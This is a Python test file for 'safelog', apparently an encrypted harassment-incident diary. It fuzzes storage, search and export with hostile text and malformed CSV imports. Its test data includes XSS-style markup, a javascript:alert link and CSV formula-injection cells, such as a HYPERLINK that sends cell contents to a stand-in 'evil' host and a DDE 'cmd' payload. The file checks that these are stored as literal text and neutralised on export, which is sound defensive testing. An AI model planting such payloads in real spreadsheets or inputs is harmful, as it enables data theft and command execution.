"""THREATS 28-30 at the core level, and hostile CSV diaries for import-log.

Arbitrary text (control characters, bidi overrides, emoji, every script, lone UTF-16 surrogates,
markup) goes through saving, editing, search and export-log and comes back as it went in, with
one documented normalisation (``safelog.incidents.model.clean_text``): a surrogate pair becomes
the character it encodes and a lone surrogate becomes U+FFFD, because SQLite cannot store a lone
surrogate. A Python string from a command line with invalid UTF-8 bytes holds exactly those
(``\\udcff``), so this is not only a fuzzing artefact.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safelog.csvsafe import neutralise
from safelog.dossier import build_dossier
from safelog.errors import InvalidInput
from safelog.incidents import people, store
from safelog.incidents.model import Incident, Person, Report
from safelog.incidents.search import search
from safelog.incidents.when import parse_when
from safelog.logio.transfer import export_log, import_log
from tests.conftest import PASSPHRASE

HOSTILE = [
    "\u202e",
    "\u202d",
    "\u2066",
    "\u200f",
    "\u200b",
    "\u200c",
    "\x00",
    "\x07",
    "\x1b[31m",
    "\r\n",
    "\r",
    "\t",
    "\ufeff",
    "\ufffd",
    "😀",
    "👩\u200d👩\u200d👧",
    "\ud800",
    "\udfff",
    "\ud83d",
    "\ude00",
    "\udcff",
    "<b>",
    "&#0;",
    "&",
    "<3",
    '<img src="/home/u/.ssh/id.png">',
    '<a href="javascript:alert(1)">x</a>',
    "<font color='[[[x'>",
    '"',
    "'",
    "*",
    "NEAR",
    " OR ",
    "^",
    "مرگ بر",
    "تهدید",
    "跟踪者",
    "ሰላም",
    "Привет",
    "é",
    "e\u0301",
    '=HYPERLINK("http://x")',
    "+1",
    "-1",
    "@SUM(A1)",
]
text = st.lists(
    st.one_of(st.characters(exclude_categories=()), st.sampled_from(HOSTILE)), max_size=30
).map("".join)
SETTINGS = settings(
    max_examples=40,
    deadline=None,
    derandomize=False,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
_counter = itertools.count(1)


def expected(value: str) -> str:
    """The documented normalisation, written independently of the implementation."""
    out, i = [], 0
    while i < len(value):
        ch = value[i]
        pair = i + 1 < len(value) and "\udc00" <= value[i + 1] <= "\udfff"
        if "\ud800" <= ch <= "\udbff" and pair:
            out.append(chr(0x10000 + ((ord(ch) - 0xD800) << 10) + ord(value[i + 1]) - 0xDC00))
            i += 2
            continue
        out.append("\ufffd" if "\ud800" <= ch <= "\udfff" else ch)
        i += 1
    return "".join(out)


def when():
    return parse_when("2026-05-03 15:30", tz="Europe/London")


def _fields(title, narrative, location, impact, private, tag, reference):
    return Incident(
        title,
        when(),
        narrative=narrative,
        location=location,
        impact=impact,
        private_notes=private,
        tags=[tag],
        reports=[Report(route="101", reference=reference, outcome=narrative[:50])],
    )


def _assert_reads_back(incident: Incident, values: dict[str, str]) -> None:
    for name, value in values.items():
        got = (
            incident.tags[0]
            if name == "tag"
            else (incident.reports[0].reference if name == "reference" else getattr(incident, name))
        )
        assert got == expected(value), name


@SETTINGS
@given(
    title=text, narrative=text, location=text, impact=text, private=text, tag=text, reference=text
)
def test_what_is_saved_is_what_is_read_back(
    vault, title, narrative, location, impact, private, tag, reference
):
    values = {
        "title": title,
        "narrative": narrative,
        "location": location,
        "impact": impact,
        "private_notes": private,
        "tag": tag,
        "reference": reference,
    }
    incident = _fields(title, narrative, location, impact, private, tag, reference)
    if not expected(title).strip():
        with pytest.raises(InvalidInput):
            store.add_incident(vault, incident)
        return
    saved = store.add_incident(vault, incident)
    again = store.get_incident(vault, saved.id)
    _assert_reads_back(again, values)
    assert store.history(vault, saved.id)[-1].doc == again.to_doc()


@SETTINGS
@given(first=text, second=text, query=text)
def test_edits_read_back_and_keep_every_version(vault, first, second, query):
    base = store.add_incident(vault, Incident("Base", when(), narrative="start"))
    current = store.get_incident(vault, base.id)
    current.narrative, current.title = first, "Edited " + second
    edited = store.update_incident(vault, base.id, current, expected_revision=1)
    assert edited.narrative == expected(first)
    assert edited.title == expected("Edited " + second)
    versions = store.history(vault, base.id)
    assert [v.rev for v in versions] == list(range(1, edited.revision + 1))
    assert versions[0].doc["narrative"] == "start"
    assert versions[-1].doc["narrative"] == expected(first)
    # Whatever is typed into the search box: a list of ids, never an exception.
    found = search(vault, query)
    assert all(isinstance(i, int) for i in found)
    store.list_summaries(vault, store.Filters(query=query))


@SETTINGS
@given(before=text, after=text)
def test_a_word_inside_hostile_text_is_found(vault, before, after):
    marker = f"qzmarker{next(_counter)}x"
    saved = store.add_incident(
        vault, Incident("Marker", when(), narrative=f"{before} {marker} {after}")
    )
    assert saved.id in search(vault, marker)
    assert saved.id in search(vault, marker[:-2])  # a prefix, as typed so far


@SETTINGS
@given(name=text, description=text, notes=text)
def test_people_read_back(vault, name, description, notes):
    person = Person(name=name, kind="witness", description=description, notes=notes)
    if not expected(name).strip():
        with pytest.raises(InvalidInput):
            people.add_person(vault, person)
        return
    saved = people.add_person(vault, person)
    again = people.get_person(vault, saved.id)
    assert (again.name, again.description, again.notes) == (
        expected(name),
        expected(description),
        expected(notes),
    )


@pytest.fixture
def second_vault(tmp_path):
    from safelog.vault import Vault

    vault, _ = Vault.create(tmp_path / "second", PASSPHRASE)
    yield vault
    vault.close()


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(title=text, narrative=text, private=text)
def test_export_log_round_trips_and_neutralises(
    vault, second_vault, tmp_path, title, narrative, private
):
    title = "T" + title
    saved = store.add_incident(
        vault, Incident(title, when(), narrative=narrative, private_notes=private)
    )
    out = tmp_path / f"export-{next(_counter)}"
    out.mkdir()
    export_log(vault, out / "log.json")
    document = json.loads((out / "log.json").read_text(encoding="utf-8"))
    item = next(i for i in document["incidents"] if i["id"] == saved.id)
    assert (item["title"], item["narrative"], item["private_notes"]) == (
        expected(title),
        expected(narrative),
        expected(private),
    )
    with open(out / "log.csv", encoding="utf-8-sig", newline="") as handle:
        row = next(r for r in csv.DictReader(handle) if r["id"] == str(saved.id))
    assert row["narrative"] == neutralise(expected(narrative))
    assert row["title"] == neutralise(expected(title))
    # The JSON brings the same incident back into another vault.
    before = store.count_incidents(second_vault)
    only = {**document, "incidents": [item], "people": []}
    (out / "one.json").write_text(json.dumps(only, ensure_ascii=False), encoding="utf-8")
    created = import_log(second_vault, out / "one.json").created
    assert len(created) == 1 and store.count_incidents(second_vault) == before + 1
    back = store.get_incident(second_vault, created[0]).to_doc()
    original = store.get_incident(vault, saved.id).to_doc()
    assert back == original


def test_lone_surrogates_from_json_are_replaced_not_fatal(vault, tmp_path):
    path = tmp_path / "log.json"
    path.write_text(
        '{"format": "safelog-log", "incidents": [{"title": "a\\ud800b", '
        '"when": ' + json.dumps(when().to_json()) + ', "narrative": '
        '"\\ud83d\\ude00 \\udfff"}]}',
        encoding="utf-8",
    )
    created = import_log(vault, path).created
    incident = store.get_incident(vault, created[0])
    assert (incident.title, incident.narrative) == ("a\ufffdb", "😀 \ufffd")


def test_command_line_bytes_that_are_not_utf8(tmp_path):
    """`safelog-cli add --title $'caf\\xe9'`: Python hands the title over as 'caf\\udce9'."""
    from safelog.vault import Vault
    from tests.integration.harness import Sandbox

    vault_path = tmp_path / "vault"
    Vault.create(vault_path, PASSPHRASE)[0].close()
    sandbox = Sandbox(tmp_path / "sandbox")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "safelog.cli.main",
            "add",
            "--title",
            b"caf\xe9 \xff\xfe",
            "--when",
            "2026-05-03 10:00",
            "--narrative",
            b"\xed\xa0\x80 lone",
            "--vault",
            str(vault_path),
            "--passphrase-stdin",
            "--json",
        ],
        input=PASSPHRASE + "\n",
        capture_output=True,
        text=True,
        env=sandbox.env(),
        cwd=sandbox.root,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    saved = json.loads(result.stdout)
    assert saved["title"] == "caf\ufffd \ufffd\ufffd"
    assert saved["narrative"] == "\ufffd\ufffd\ufffd lone"


def test_in_process_cli_with_surrogates(cli):
    assert cli("init", "--passphrase-stdin").code == 0
    result = cli(
        "add", "--passphrase-stdin", "--json", "--title", "x\udcffy", "--when", "2026-05-03 10:00"
    )
    assert result.code == 0, result.err
    assert json.loads(result.out)["title"] == "x\ufffdy"
    assert cli("search", "--passphrase-stdin", "x\udcffy").code == 0


def test_megabyte_narrative_and_a_200k_character_word(vault, tmp_path):
    lines = []
    scripts = [
        "Followed again near the station",
        "مرا تا خانه تعقیب کرد",
        "他在门外等我",
        "ሰውየው ተከተለኝ",
        "Он снова ждал у двери",
        "\u202eevil\u202c",
        "\x07\x1b",
    ]
    for n in range(10_000):
        lines.append(f"{scripts[n % len(scripts)]} line{n}")
    narrative = "\n".join(lines)
    narrative += "\n" + "w" * (1_000_000 - len(narrative))
    word = "Ab" * 100_000
    saved = store.add_incident(vault, Incident("Long", when(), narrative=narrative, location=word))
    again = store.get_incident(vault, saved.id)
    assert again.narrative == narrative and again.location == word
    assert search(vault, "line9999") == [saved.id]
    assert search(vault, "تعقیب") == [saved.id]
    assert search(vault, "门外") == [saved.id]
    assert search(vault, word[:200]) == [saved.id]  # the 200k-character word, by its start
    again.narrative += " appended"
    assert store.update_incident(vault, saved.id, again).revision == 2
    files = export_log(vault, tmp_path / "big.json")
    document = json.loads(files[0].read_text(encoding="utf-8"))
    assert document["incidents"][0]["location"] == word


dossier_settings = settings(
    max_examples=5,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@dossier_settings
@given(title=text, narrative=text)
def test_dossier_builds_with_hostile_text(vault, tmp_path, title, narrative):
    """A light pass only: the dossier's own tests cover markup and layout."""
    store.add_incident(
        vault, Incident("D" + title, when(), narrative=narrative, location=narrative[:40])
    )
    result = build_dossier(vault, tmp_path / f"dossier-{next(_counter)}")
    assert result.pdf_path is not None and result.pdf_path.read_bytes().startswith(b"%PDF")


# ----- hostile CSV diaries ----------------------------------------------------------------


def _write(tmp_path, data: bytes, name: str | None = None):
    path = tmp_path / (name or f"diary-{next(_counter)}.csv")
    path.write_bytes(data)
    return path


def test_ragged_rows_keep_every_cell(vault, tmp_path):
    path = _write(
        tmp_path,
        b"Date,What happened\n01/02/2026,first,extra one,extra two\n02/02/2026\n03/02/2026,third\n",
    )
    result = import_log(vault, path)
    narratives = [store.get_incident(vault, i).narrative for i in result.created]
    assert narratives == ["first\nColumn 3: extra one\nColumn 4: extra two", "", "third"]


@pytest.mark.parametrize(
    "data,message",
    [
        (b"Date,What happened\n01/02/2026,a\x00b\n", "not a CSV text file"),
        (b"Date,What happened\n01/02/2026," + b"x" * 200_000 + b"\n", "Row 2"),
        ("Date,What happened\n01/02/2026,caf\u00e9\n".encode("utf-16-le"), "UTF-8|CSV"),
        ("\ufeffDate,What\n01/02/2026,x\n".encode("utf-32"), "UTF|CSV"),
        ("Date,What happened\n01/02/2026,\u201csmart\u201d\n".encode("cp1252"), "UTF-8"),
        ("Date,What happened\n01/02/2026,\u3042\n".encode("shift_jis"), "UTF-8"),
        (b'Date,What happened\n01/02/2026,"never closed\n02/02/2026,second\n', "Line 2"),
        (b'Date,What happened\n01/02/2026,ok\n"02/02/2026,second\n03/02/2026,x\n', "Line 3"),
    ],
)
def test_malformed_csv_is_one_plain_error_and_imports_nothing(vault, tmp_path, data, message):
    with pytest.raises(InvalidInput, match=message) as info:
        import_log(vault, _write(tmp_path, data))
    assert "\n" not in str(info.value) and "Traceback" not in str(info.value)
    assert store.count_incidents(vault) == 0


def test_quoted_cells_that_close_are_not_refused(vault, tmp_path):
    data = (
        b'Date,What happened,Where\n01/02/2026,"He said ""stop"", then\nleft",home\n'
        b'02/02/2026,"stop" he said,"a, b"\n03/02/2026,5\'2" man,x\n'
    )
    result = import_log(vault, _write(tmp_path, data))
    assert [store.get_incident(vault, i).narrative for i in result.created] == [
        'He said "stop", then\nleft',
        "stop he said",
        "5'2\" man",
    ]


def test_very_many_columns(vault, tmp_path):
    columns = 20_000
    header = ",".join(["Date", "What happened"] + [f"col{n}" for n in range(columns)])
    row = ",".join(["01/02/2026", "main"] + ["v"] * columns)
    result = import_log(vault, _write(tmp_path, f"{header}\n{row}\n".encode()))
    narrative = store.get_incident(vault, result.created[0]).narrative
    assert narrative.startswith("main\ncol0: v") and narrative.endswith(f"col{columns - 1}: v")


def test_formulas_are_kept_literally_and_neutralised_on_export(vault, tmp_path):
    cells = [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [["Date", "What happened"]] + [[f"0{n + 1}/02/2026", c] for n, c in enumerate(cells)]
    )
    import_log(vault, _write(tmp_path, buffer.getvalue().encode()))
    stored = [i.narrative for i in store.list_incidents(vault)]
    assert stored == [c.strip() for c in cells]  # kept as text, whitespace trimmed
    export_log(vault, tmp_path / "out.csv", formats=("csv",))
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        exported = [r["narrative"] for r in csv.DictReader(handle)]
    assert all(cell.startswith("'") for cell in exported)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    st.binary(max_size=400)
    | st.lists(st.lists(text, max_size=6), max_size=6).map(
        lambda rows: "\n".join(",".join(r) for r in [["Date", "What happened"], *rows]).encode(
            "utf-8", "surrogatepass"
        )
    )
)
def test_any_bytes_import_or_refuse_plainly(vault, tmp_path, data):
    before = store.count_incidents(vault)
    try:
        result = import_log(vault, _write(tmp_path, data))
    except InvalidInput:
        assert store.count_incidents(vault) == before
        return
    assert store.count_incidents(vault) == before + len(result.created)


@pytest.mark.parametrize(
    "argv",
    [
        ("checklist", "set", "accounts", "email-password", "done", "--note", "caf\udce9"),
        ("checklist", "set", "accounts", "email-password", "done", "--by", "caf\udce9"),
        ("import", "--incident", "1", "{file}", "--note", "caf\udce9"),
        ("import", "--incident", "1", "{file}", "--platform", "caf\udce9"),
    ],
)
def test_other_notes_with_bytes_that_are_not_utf8(cli, tmp_path, argv):
    evidence = tmp_path / "note.txt"
    evidence.write_text("hello", encoding="utf-8")
    assert cli("init", "--passphrase-stdin").code == 0
    assert cli("add", "--passphrase-stdin", "--title", "x", "--when", "2026-05-03 10:00").code == 0
    result = cli(*[a.replace("{file}", str(evidence)) for a in argv], "--passphrase-stdin")
    assert result.code == 0, result.err
